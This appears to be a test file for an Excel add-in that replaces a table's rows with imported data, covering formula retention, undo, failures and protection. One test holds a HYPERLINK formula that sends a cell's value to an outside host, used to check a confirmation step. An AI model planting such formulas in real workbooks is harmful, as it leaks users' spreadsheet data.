/// <reference types="office-js" />
/** All rows of a table replaced by those of a file: formulas and names stay, and the old rows come back. */
import type { CellValue } from "../../src/file-reader/packed-rows";
import { sheetColumn } from "../../src/file-reader/sheet-column";
import { readRecords } from "../../src/features/import/sheet/import-records";
import { UnfinishedImportError } from "../../src/features/import/sheet/import-requests";
import { OccupiedCellsError } from "../../src/features/import/sheet/table-landing";
import type { ReplacementJob } from "../../src/features/import/sheet/table-replacement";
import { createWorkbookImports } from "../../src/features/import/sheet/workbook-imports";
import { createCallFaults } from "../engine/answers/call-faults";
import { batches, createImportedWorkbook, formatCellsAround, importFacts, slowPace } from "./imported-workbook";
import { requestsUnderFaults, sheetWriters, writesUnderFaults } from "./request-faults";
import { isLong, isOfPart } from "../seeds";

const opened = createImportedWorkbook();
const { run, read, image } = opened;

/** Three properties with an own formula and an own note in the table, and a model that reads it by its names. */
beforeEach(() =>
  opened.open((_, sheet) => {
    sheet.getRange("B4:B6").numberFormat = [["@"], ["@"], ["@"]];
    sheet.getRange("B3:F3").values = [["id", "rent", "per month", "units", "note"]];
    sheet.getRange("B4:B6").values = [["01"], ["02"], ["03"]];
    sheet.getRange("C4:C6").values = [[1_500], [1_700], [1_900]];
    sheet.getRange("E4:F6").values = [
      [10, "good"],
      [20, ""],
      [30, "'=bad"],
    ];
    formatCellsAround(sheet);
    const table = sheet.tables.add("B3:F6", true);
    table.name = "Rents";
    sheet.getRange("D4:D6").formulas = [["=Rents[@rent]/12"], ["=Rents[@rent]/12"], ["=Rents[@rent]/12"]];
    sheet.getRange("E6").formulas = [["=15*2"]];
    sheet.getRange("J4").formulas = [["=C4*12"]];
  }),
);
afterEach(() => opened.close());

const columns = [
  sheetColumn("ID", "text", ["01"]),
  sheetColumn("rent", "number", ["1500"]),
  sheetColumn("units", "number", ["10"]),
  sheetColumn("pool", "boolean", []),
];
const fewer: CellValue[][] = [
  ["007", 2_000, 5, true],
  ["=A1", "", 6, false],
];
const more: CellValue[][] = [...fewer, ...fewer, ["5", 1, 1, true]];
const job = (rows: readonly CellValue[][], given: Partial<ReplacementJob> = {}): ReplacementJob => ({
  facts: importFacts,
  table: "Rents",
  columns,
  rows: batches(rows, 2),
  expected: rows.length,
  ...given,
});
const pace = slowPace();
const imports = createWorkbookImports(pace);

test("fewer rows: formulas and what reads the table stay, the rest goes, and all comes back", async () => {
  const before = await image();
  expect(await imports.drift("Rents", columns)).toMatchObject({ calculated: ["per month"], typed: ["note"] });
  const record = await imports.replace(job(fewer, { leftOut: () => 3 }));
  expect(record).toMatchObject({ kind: "replace", rows: 2, leftOut: 3 });
  await opened.workbook.settled();
  expect(await read("Sheet1", "B3:G7", "formulas")).toEqual([
    ["id", "rent", "per month", "units", "note", ""],
    ["007", 2_000, "=Rents[@rent]/12", 5, "", ""],
    ["=A1", "", "=Rents[@rent]/12", 6, "", ""],
    ["", "", "", "", "", ""],
    ["", "", "", "", "", ""],
  ]);
  expect(await read("Model", "A1:A2")).toEqual([[2_000], [2]]);
  expect((await read("Sheet1", "J4", "formulas"))[0]).toEqual(["=C4*12"]);
  // Saved, and opened again.
  await opened.open(opened.workbook.save());
  expect((await imports.list()).map(({ wayBack }) => wayBack)).toEqual(["always"]);
  await createWorkbookImports(pace).takeBack("import-1");
  await opened.workbook.settled();
  expect(await image()).toEqual(before);
});

test("more rows, and a column that the table lacks: it grows to both, and back", async () => {
  const before = await image();
  await imports.replace(job(more, { addsColumns: true }));
  await opened.workbook.settled();
  expect(await read("Sheet1", "B3:G9", "values")).toEqual([
    ["id", "rent", "per month", "units", "note", "pool"],
    ["007", 2_000, 2_000 / 12, 5, "", true],
    ["=A1", "", 0, 6, "", false],
    ["007", 2_000, 2_000 / 12, 5, "", true],
    ["=A1", "", 0, 6, "", false],
    ["5", 1, 1 / 12, 1, "", true],
    ["", "", "", "", "", ""],
  ]);
  expect(await read("Sheet1", "B4:B8", "numberFormat")).toEqual(Array(5).fill(["@"]));
  expect(await read("Model", "A1:A2")).toEqual([[4_001], [5]]);
  await imports.takeBack("import-1");
  expect(await image()).toEqual(before);
});

test("another session's undo asks before it writes a replaced row's formula that reaches outside", async () => {
  const link = '=HYPERLINK("https://example.com/?"&C5,"x")';
  await run(async (context) => {
    context.workbook.worksheets.getItem("Sheet1").getRange("E5").formulas = [[link]];
    await context.sync();
  });
  await opened.workbook.settled();
  const before = await image();
  await imports.replace(job(fewer));
  await opened.workbook.settled();
  const replaced = await image();
  const others = createWorkbookImports(pace);
  expect(await others.takeBack("import-1")).toMatchObject({ unconfirmed: [link] });
  expect(await image()).toEqual(replaced);
  await others.takeBack("import-1", "as text");
  await opened.workbook.settled();
  const shown = (await read("Sheet1", "E5", "values"))[0]?.[0];
  expect(shown).toBe(link);
  // Formulas that merely calculate are back.
  expect((await read("Sheet1", "D4:E6", "formulas")).flat()).toEqual(
    expect.arrayContaining(["=Rents[@rent]/12", "=15*2"]),
  );
  await imports.replace(job(fewer));
  await createWorkbookImports(pace).takeBack("import-1", [link]);
  await opened.workbook.settled();
  expect(before).toBeDefined();
});

test("numbers that come into a column of texts are numbers there", async () => {
  const before = await image();
  const numbers = [{ ...sheetColumn("id", "number", ["7"]) }];
  await imports.replace(job([[7]], { columns: numbers }));
  expect(await read("Sheet1", "B4:B4")).toEqual([[7]]);
  expect(await read("Sheet1", "B4:B4", "numberFormat")).toEqual([["General"]]);
  await imports.takeBack("import-1");
  expect(await image()).toEqual(before);
});

test("what stands below is not written over, and a cancelled one leaves nothing", async () => {
  await run(async (context) => {
    context.workbook.worksheets.getItem("Sheet1").getRange("C8").values = [["mine"]];
    await context.sync();
  });
  const before = await image();
  await expect(imports.replace(job(more))).rejects.toBeInstanceOf(OccupiedCellsError);
  expect(await image()).toEqual(before);
  const abort = new AbortController();
  const onProgress = (): void => abort.abort(new Error("Cancelled."));
  await expect(imports.replace(job(fewer, { signal: abort.signal, onProgress }))).rejects.toThrow("Cancelled.");
  expect(await image()).toEqual(before);
});

test.each([false, true])(
  "the Nth request fails, for ever: %p; nothing changes, or it can be taken back",
  async (isForEver) => {
    const before = await image();
    const faults = createCallFaults();
    let failures = 0;
    for (let call = 1; ; call += 1) {
      if (!isOfPart(call, 2)) continue;
      opened.through(requestsUnderFaults(opened.workbook.excel, faults));
      faults.start(call, { when: call % 2 === 0 ? "before it is done" : "after it was done", isForEver });
      const outcome: unknown = await imports
        .replace(job(more, { addsColumns: call % 3 === 0 }))
        .catch((error: unknown) => error);
      const hasFailed = faults.stop();
      opened.through(opened.workbook.excel);
      if (!hasFailed) break;
      if (outcome instanceof Error) failures += 1;
      const [record] = await run(readRecords);
      if (record !== undefined) {
        if (!(outcome instanceof UnfinishedImportError)) expect(outcome).not.toBeInstanceOf(Error);
        // By what the workbook itself knows, as after Excel was closed.
        await createWorkbookImports(pace).takeBack(record.id);
      }
      expect(await image()).toEqual(before);
    }
    expect(failures).toBeGreaterThan(isLong ? 4 : 1);
  },
);

test("rows of over three million characters come back, wherever it is cut off", async () => {
  const long = Array.from({ length: 110 }, (_, row) => [String(row), "x".repeat(32_000), row]);
  const rows = "B3:D113";
  await opened.open((_, sheet) => {
    sheet.getRange(rows).values = [["id", "note", "rent"], ...long];
    sheet.tables.add(rows, true).name = "Rents";
  });
  const standing = async () =>
    (await read("Sheet1", rows)).map(([id, note, rent]) => `${String(id)} ${String(note).length} ${String(rent)}`);
  const before = await standing();
  const faults = createCallFaults();
  let cutOff = 0;
  // The first ones read alone.
  for (let call = 10; ; call += 1) {
    if (!isOfPart(call, 2)) continue;
    opened.through(requestsUnderFaults(opened.workbook.excel, faults));
    faults.start(call, { when: "before it is done", isForEver: true });
    const outcome: unknown = await imports.replace(job([["7", 8, 9, true]])).catch((error: unknown) => error);
    const hasFailed = faults.stop();
    opened.through(opened.workbook.excel);
    if (!hasFailed) break;
    // As another person sees it, or this one after Excel was closed.
    const others = createWorkbookImports(pace);
    for (const { record, wayBack } of await others.list()) {
      // What failed came after it was done.
      if (record.state === "done" && outcome instanceof UnfinishedImportError) await outcome.takeBack();
      else if (record.state === "done") await imports.takeBack(record.id);
      else {
        expect(wayBack).toBe("always");
        cutOff += 1;
        await others.takeBack(record.id);
      }
    }
    expect(await standing()).toEqual(before);
  }
  expect(cutOff).toBeGreaterThan(0);
  // Nothing is left of records that were cut off before they counted, and of a finished one no more than a workbook is
  // to carry.
  const parts = opened.workbook.save().customXmlParts.map(({ xml }) => xml);
  expect(parts.filter((xml) => xml.includes('state="writing"'))).toEqual([]);
  expect((await imports.list()).map(({ wayBack }) => wayBack)).toEqual(["session"]);
  await imports.takeBack("import-1");
  expect(await standing()).toEqual(before);
});

test("cells below the table, and some of it, may have the format Text; dates look like dates", async () => {
  await run(async (context) => {
    const sheet = context.workbook.worksheets.getItem("Sheet1");
    sheet.getRange("B4").numberFormat = [["General"]];
    sheet.getRange("B7:F10").numberFormat = Array.from({ length: 4 }, () => Array<string>(5).fill("@"));
    await context.sync();
  });
  const dated = [...columns.slice(0, 3), sheetColumn("note", "date", ["2025-06-30"])];
  const rows = more.map((row): CellValue[] => [...row.slice(0, 3), 45_838]);
  await imports.replace(job(rows, { columns: dated }));
  expect(await read("Sheet1", "B4:F8", "values")).toEqual(
    more.map(([id, rent, units]) => [id, rent, expect.anything() as unknown, units, 45_838]),
  );
  expect(await read("Sheet1", "F4:F8", "numberFormat")).toEqual(more.map(() => ["yyyy-mm-dd"]));
});

test("a protected sheet refuses it before anything is on record", async () => {
  const before = await image();
  let isProtected = true;
  writesUnderFaults(opened.workbook.excel, () => isProtected, sheetWriters);
  const outcome: unknown = await imports.replace(job(more)).catch((error: unknown) => error);
  isProtected = false;
  // The host\'s own reason, and no import that is left unfinished.
  expect(outcome).toMatchObject({ code: "ItemNotFound" });
  expect(await image()).toEqual(before);
});
